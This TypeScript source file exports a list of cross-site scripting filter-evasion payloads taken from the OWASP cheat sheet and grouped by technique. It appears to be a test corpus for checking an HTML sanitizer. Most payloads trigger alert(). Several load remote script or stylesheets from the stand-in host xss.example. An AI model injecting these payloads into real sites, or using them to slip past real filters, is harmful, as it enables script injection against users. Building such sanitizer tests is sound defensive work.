/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), grouped as
 * it groups them: script tags, event handlers, javascript:/data: URLs, SVG and MathML, broken
 * markup and encodings. Each calls alert() (a dialog) or sets window.__xss when it executes.
 */
export const xssCorpus: string[] = [
  // script tags
  "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
  "<script>alert('XSS')</script>",
  "<SCRIPT>window.__xss=1</SCRIPT>",
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
  "<SCRIPT SRC=//xss.example/.j>",
  '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  // javascript: and data: URLs
  '<a href="javascript:alert(1)">click</a>',
  "<A HREF=\"jav&#x09;ascript:alert('XSS');\">tab</A>",
  "<A HREF=\"jav&#x0A;ascript:alert('XSS');\">newline</A>",
  "<A HREF=\" &#14;  javascript:alert('XSS');\">leading</A>",
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">decimal</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex</a>',
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="//xss.example/">protocol relative</a>',
  // event handlers
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<p onclick="alert(1)" style="position:fixed;inset:0">cover</p>',
  '<details open ontoggle="alert(1)">',
  "<input autofocus onfocus=alert(1)>",
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart="alert(1)">m</marquee>',
  // SVG and MathML
  '<svg/onload=alert("XSS")>',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><maction actiontype="statusline#http://xss.example" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
  // frames, objects, meta, style, base
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  // broken markup and encodings
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="jav&#x61;script:alert(1)">entity</a>',
  "<textarea></textarea><script>alert(1)</script>",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  '"><img src=x onerror=alert(1)>',
  "<IMG SRC=\"  &#14;  javascript:alert('XSS');\">",
];
